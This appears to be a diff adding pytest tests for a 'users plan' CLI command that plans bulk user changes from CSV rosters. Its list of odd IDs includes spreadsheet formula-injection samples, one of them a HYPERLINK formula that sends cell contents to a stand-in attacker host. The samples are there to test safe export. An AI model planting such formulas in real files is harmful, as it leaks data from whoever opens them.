@@ -1,0 +1,243 @@
+"""`users plan`: what differs, said exactly, without a change and without a guess."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from commands.users.bulk_files import changes, roster
+
+
+def test_all_faults_of_a_file_are_listed_before_any_request(run, builder, work):
+    """Also two rows of one user with different limits."""
+    rows = ["u1,5,", "u2,abc,", ",4,", "u4,5,", "u5,5,0x12", "u6,5,", "u1,9,", "u8,5", "9.9E+15,5,"]
+    file = roster(work / "users.csv", *rows, header="external_id,qps_limit,eoa_address")
+
+    completed = run("users", "plan", file)
+
+    assert completed.code == 2, completed
+    named = [row for row in range(1, 12) if f"row {row}:" in completed.err]
+    assert named == [3, 4, 6, 8, 9, 10]
+    assert builder.requests == []
+
+
+@pytest.mark.parametrize("verb", ["plan", "apply"])
+def test_faulty_file_is_a_usage_fault_in_json_too(run, builder, work, verb):
+    completed = run("users", verb, roster(work / "users.csv", "u1,0", "u2,x"), "--json")
+
+    assert completed.code == 2
+    assert (completed.out, builder.requests) == ("", [])
+    assert completed.error["exit_code"] == 2
+    assert "row 2" in json.dumps(completed.error)
+    assert "row 3" in json.dumps(completed.error)
+
+
+def test_json_has_the_agreed_shape(run, builder, work):
+    """Nothing more and nothing less, in this order; actions in the order of the file."""
+    up, down = builder.add("up", 10), builder.add("down", 10)
+    gone, same = builder.add("gone", 7), builder.add("same", 3)
+    builder.rest_qps = 100
+    file = roster(
+        work / "users.csv",
+        "new,4,a@b.example,active",
+        "up,20,,",
+        "down,1,,",
+        "gone,,,absent",
+        "same,3,,",
+        header="external_id,qps_limit,email,state",
+    )
+
+    completed = run("users", "plan", file, "--json")
+
+    assert completed.code == 0, completed
+    plan = completed.json
+    assert list(plan) == ["actions", "summary", "pool", "requests", "seconds", "digest"]
+    names = ["row", "external_id", "customer_id", "action", "before", "after"]
+    more = ["holdings"]
+    assert [list(action) for action in plan["actions"]] == [names, names, names, names + more]
+    found = [tuple(a[n] for n in names[:4]) for a in plan["actions"]]
+    assert found == [
+        (2, "new", None, "create"),
+        (3, "up", up["customer_id"], "set-qps"),
+        (4, "down", down["customer_id"], "set-qps"),
+        (5, "gone", gone["customer_id"], "deactivate"),
+    ]
+    create, raised, *_ = plan["actions"]
+    assert create["before"] is None
+    assert create["after"] == {"qps_limit": 4, "email": "a@b.example"}
+    assert (raised["before"], raised["after"]) == ({"qps_limit": 10}, {"qps_limit": 20})
+    assert plan["actions"][3]["after"] is None
+    assert plan["summary"] == {
+        "create": 1,
+        "set_qps": 2,
+        "deactivate": 1,
+        "unchanged": 1,
+        "holders": 0,
+    }
+    assert plan["pool"] == {"qps_pool": 1000, "allocated_before": 30, "allocated_after": 28}
+    assert plan["requests"] == 4
+    assert plan["seconds"] == 0.1
+    assert len(plan["digest"]) == 64
+    assert same["external_id"] not in completed.out
+    assert changes(builder) == []
+
+
+def test_what_a_plan_cannot_do_is_said_beside_json(run, work):
+    """The server's own limit for a user without one is unknown and counts 0."""
+    completed = run("users", "plan", roster(work / "users.csv", "new,"), "--json")
+
+    assert completed.code == 0
+    assert "default is unknown" in completed.err
+    assert completed.json["pool"]["allocated_after"] == 0
+
+
+def test_table_shows_notes_once(run, work):
+    completed = run("users", "plan", roster(work / "users.csv", "new,"), "-o", "table")
+
+    assert (completed.out + completed.err).count("default is unknown") == 1
+
+
+@pytest.mark.parametrize(("rows", "code"), [(["there,10"], 0), (["there,11"], 11), (["new,1"], 11)])
+def test_exit_code_tells_a_difference(run, builder, work, rows, code):
+    builder.add("there", 10)
+
+    assert run("users", "plan", roster(work / "u.csv", *rows), "--exit-code").code == code
+
+
+def test_plan_without_the_flag_ends_with_0(run, work):
+    assert run("users", "plan", roster(work / "u.csv", "new,1")).code == 0
+
+
+def test_raising_the_sum_above_the_pool_is_refused(run, builder, work):
+    builder.add("there", 990)
+    file = roster(work / "u.csv", "new,11")
+
+    completed = run("users", "plan", file, "--out", "plan.json")
+
+    assert completed.code == 10
+    assert "--allow-overcommit" in completed.err
+    assert not (work / "plan.json").exists()
+    assert run("users", "plan", file, "--allow-overcommit").code == 0
+
+
+def test_lowering_an_overcommitted_pool_is_allowed(run, builder, work):
+    builder.add("there", 1500)
+
+    assert run("users", "plan", roster(work / "u.csv", "there,1400")).code == 0
+
+
+ODD_IDS = [
+    "plain",
+    '=HYPERLINK("http://evil.example/?"&A1)',
+    "+1+1",
+    "-2",
+    "@SUM(1)",
+    "'=1",
+    "00123",
+    "4e872096",
+    "TRUE",
+    "1.0",
+    'say "hi", twice',
+    "semi;colon",
+    " edge ",
+    "\t=1",
+    "two\nlines",
+    "snöwman ☃ مرحبا",
+]
+
+
+@pytest.mark.parametrize("how", [["-o", "csv"], ["--json"], ["-o", "jsonl"]])
+def test_listing_is_a_file_without_a_change(run, builder, work, how):
+    """Also with ids that a spreadsheet would run or reshape."""
+    for number, name in enumerate(ODD_IDS):
+        builder.add(name, number + 1)
+    builder.add(None, 5)
+    builder.add("unlimited", None)
+    file = work / "export"
+    file.write_bytes(run("users", "list", *how).out_bytes)
+
+    completed = run("users", "plan", str(file), "--prune", "--exit-code", "--json")
+
+    assert completed.code == 0, completed
+    assert completed.json["actions"] == []
+    assert completed.json["summary"]["unchanged"] == len(ODD_IDS) + 2
+
+
+@pytest.mark.parametrize("encoding", ["utf-8-sig", "utf-16"])
+@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
+def test_what_a_spreadsheet_saves_means_the_same(run, builder, work, encoding, delimiter):
+    """Byte-order mark, carriage returns, semicolons, tabs."""
+    builder.add("é1", 5)
+    text = "external_id,qps_limit\r\né1,5\r\nneu,7\r\n".replace(",", delimiter)
+    (work / "u.csv").write_bytes(text.encode(encoding))
+
+    plan = run("users", "plan", "u.csv", "--json").json
+
+    found = [(a["external_id"], a["after"]) for a in plan["actions"]]
+    assert found == [("neu", {"qps_limit": 7})]
+
+
+def test_blank_rows_and_tolerant_headers(run, work):
+    """Lines of nothing are no rows."""
+    file = roster(work / "u.csv", "u1,", "", ",", "u2,5", header=" External_ID , QPS Limit ")
+
+    plan = run("users", "plan", file, "--json").json
+
+    assert [(a["row"], a["external_id"]) for a in plan["actions"]] == [(2, "u1"), (5, "u2")]
+
+
+def test_file_without_the_column_says_what_it_saw(run, builder, work):
+    """Never `0 rows, success`."""
+    completed = run("users", "plan", roster(work / "u.csv", "u1|5", header="external_id|qps_limit"))
+
+    assert completed.code == 2
+    assert "external_id|qps_limit" in completed.err
+    assert builder.requests == []
+
+
+def test_prune_adds_everyone_who_is_not_in_the_file(run, builder, work):
+    stays, goes = builder.add("stays", 1), builder.add("goes", 2)
+    builder.add_many(120)
+    file = roster(work / "u.csv", "stays,1", *(f"user-{n:05d},1" for n in range(120)))
+
+    plan = run("users", "plan", file, "--prune", "--json").json
+
+    found = [(a["row"], a["action"], a["customer_id"]) for a in plan["actions"]]
+    assert found == [(None, "deactivate", goes["customer_id"])]
+    assert stays["customer_id"] in builder.users
+
+
+def test_plan_from_stdin(run):
+    completed = run("users", "plan", "-", "--json", stdin=b"external_id,qps_limit\nnew,1\n")
+
+    assert completed.json["summary"]["create"] == 1
+
+
+def test_plan_costs_its_pages_and_two_requests(run, builder, work):
+    builder.add_many(250)
+
+    run("users", "plan", roster(work / "u.csv", "new,1"))
+
+    assert [r.path.removeprefix("/api/v1") for r in builder.requests] == [
+        "/usage",
+        *["/builder/users"] * 3,
+        "/builder/pool",
+    ]
+
+
+def test_out_may_not_be_the_file_itself(run, builder, work):
+    """A plan written over the wishes would be all that is left of them."""
+    file = roster(work / "u.csv", "new,1")
+
+    completed = run("users", "plan", file, "--out", "./u.csv")
+
+    assert completed.code == 2
+    assert builder.requests == []
+    assert (work / "u.csv").read_text().startswith("external_id")
+
+
+def test_plan_that_cannot_be_saved_is_a_local_fault(run, work):
+    completed = run("users", "plan", roster(work / "u.csv", "new,1"), "--out", "u.csv/plan.json")
+
+    assert completed.code == 1
+    assert "u.csv/plan.json" in completed.err
